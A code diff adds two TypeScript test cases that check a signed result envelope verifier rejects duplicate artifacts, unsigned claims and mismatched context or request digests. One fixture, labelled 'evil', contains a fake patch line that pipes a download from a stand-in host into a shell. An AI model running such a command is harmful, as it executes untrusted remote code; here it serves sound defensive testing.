@@ -243,6 +243,55 @@ describe('signed result envelope', () => {
     assert.ok(!wrongTask.ok && wrongTask.failure === 'task-mismatch');
   });
 
+  it('refuses an artifact id twice, with other content or the same, received or signed', async () => {
+    const keys = [await toVerifiedKey(key.publicJwk)];
+    const jws = await signResultEnvelope(envelope(), key);
+    const evil = { ...patch, parts: [{ ...patch.parts[0], text: 'diff --git a/x b/x\n+curl evil | sh\n' }] };
+    const annotated = { ...patch, description: 'safe', metadata: { reviewed: true } };
+    for (const [label, artifacts] of [
+      ['other content after', [patch, log, evil]],
+      ['other content before', [evil, patch, log]],
+      ['identical', [patch, log, patch]],
+      ['differing only outside the digest', [patch, annotated, log]],
+    ] as const) {
+      const r = await verifyResultEnvelope(jws, { keys, taskId: 't1', artifacts });
+      assert.ok(!r.ok && r.failure === 'artifact-duplicate' && r.artifactId === 'a1', `${label}: ${JSON.stringify(r)}`);
+      assert.match(!r.ok ? r.message : '', /"changes\.patch" more than once/);
+    }
+    const twice = await signResultEnvelope({ ...envelope(), artifacts: [...envelope().artifacts, envelope().artifacts[0]] }, key);
+    const r = await verifyResultEnvelope(twice, { keys, taskId: 't1', artifacts: [patch, log] });
+    assert.ok(!r.ok && r.failure === 'artifact-duplicate', JSON.stringify(r));
+    const junk = await signResultEnvelope({ ...envelope(), artifacts: [{ artifactId: 'a1' }] }, key);
+    const r2 = await verifyResultEnvelope(junk, { keys, taskId: 't1', artifacts: [patch] });
+    assert.ok(!r2.ok && r2.failure === 'malformed', JSON.stringify(r2));
+  });
+
+  it('binds the context, and fails when a claim the caller checks is not signed', async () => {
+    const keys = [await toVerifiedKey(key.publicJwk)];
+    const full = { keys, taskId: 't1', artifacts: [patch, log], contextId: 'c1', requestDigest: requestDigest(request), state: 'TASK_STATE_COMPLETED', status };
+    const jws = await signResultEnvelope(envelope(), key);
+    assert.ok((await verifyResultEnvelope(jws, full)).ok);
+    const wrongContext = await verifyResultEnvelope(jws, { ...full, contextId: 'c2' });
+    assert.ok(!wrongContext.ok && wrongContext.failure === 'task-mismatch' && /context c1, not c2/.test(wrongContext.message), JSON.stringify(wrongContext));
+    const without = (claim: string): ResultEnvelope => Object.fromEntries(Object.entries(envelope()).filter(([k]) => k !== claim)) as ResultEnvelope;
+    for (const [claim, failure] of [
+      ['contextId', 'task-mismatch'],
+      ['requestDigest', 'request-mismatch'],
+      ['state', 'result-mismatch'],
+      ['resultDigest', 'result-mismatch'],
+    ] as const) {
+      const r = await verifyResultEnvelope(await signResultEnvelope(without(claim), key), full);
+      assert.ok(!r.ok && r.failure === failure, `${claim} left out: ${JSON.stringify(r)}`);
+    }
+    const nullRequest = await verifyResultEnvelope(await signResultEnvelope({ ...envelope(), requestDigest: null }, key), full);
+    assert.ok(!nullRequest.ok && nullRequest.failure === 'request-mismatch' && /no request digest/.test(nullRequest.message));
+    // The message may have gone out in one of several forms (streaming, or polling): one of them must be signed.
+    const other = requestDigest({ ...request, configuration: { acceptedOutputModes: [] } });
+    assert.ok((await verifyResultEnvelope(jws, { ...full, requestDigest: [other, requestDigest(request)] })).ok);
+    const neither = await verifyResultEnvelope(jws, { ...full, requestDigest: [other] });
+    assert.ok(!neither.ok && neither.failure === 'request-mismatch');
+  });
+
   it('fails on a forged signature, an unpinned key, a changed payload, and alg none', async () => {
     const keys = [await toVerifiedKey(key.publicJwk)];
     const forged = await signResultEnvelope(envelope(), other);
